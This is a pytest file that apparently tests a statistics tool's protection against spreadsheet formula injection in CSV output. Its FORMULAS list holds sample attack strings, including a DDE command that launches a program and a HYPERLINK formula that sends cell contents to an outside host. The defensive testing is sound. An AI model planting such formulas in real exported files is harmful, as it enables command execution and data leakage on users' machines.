"""Nothing of a file that is opened in a spreadsheet is computed; numbers stay numbers."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cvrgvr.cli import main
from cvrgvr.report.sheet import Sheet, as_text_cell
from tests.wire.files import HEADER, file_of, row

NUMBER = re.compile(r"[-+]?[\d \xa0\u202f]*\d([.,]\d+)?|.")
FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://host/?"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_formulas_become_text(text: str) -> None:
    assert as_text_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-", "–", "", "0", "-5", "+5", "-5,25", "1 234", "V-1", "a=b", "2026-03-02"]
)
def test_all_else_stays(text: str) -> None:
    assert as_text_cell(text) == text


@given(st.lists(st.text(max_size=8), min_size=1, max_size=4))
def test_no_cell_begins_as_a_formula(texts: list[str]) -> None:
    stream = io.StringIO(newline="")
    Sheet(stream).row(texts)
    stream.seek(0)
    cells = [cell for line in csv.reader(stream, delimiter=";") for cell in line]
    for cell, text in zip(cells, texts, strict=False):
        assert cell in {text, f"'{text}"}
        if cell[:1] in set("=+-@\t\r"):
            assert NUMBER.fullmatch(cell)


def test_a_unit_that_is_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Values of a file become names of groups."""
    path = tmp_path / "fil.csv"
    path.write_bytes(file_of(HEADER, row(hsaid_vardenhet="@SUM(1)")))
    command = ["statistics", str(path), "--measure", "antal_vantande", "--by", "hsaid_vardenhet"]
    assert main([*command, "--format", "csv"]) == 0
    shown = capsys.readouterr().out
    assert "\n'@SUM(1);" in shown or "\n@" not in shown


def test_register_files_are_exact(tmp_path: Path) -> None:
    path, out = tmp_path / "fil.csv", tmp_path / "ut.csv"
    path.write_bytes(file_of(f"{HEADER};produktionsomrade", f"{row()};=1+2"))
    main(["convert", str(path), str(out)])
    assert b";=1+2" in out.read_bytes()
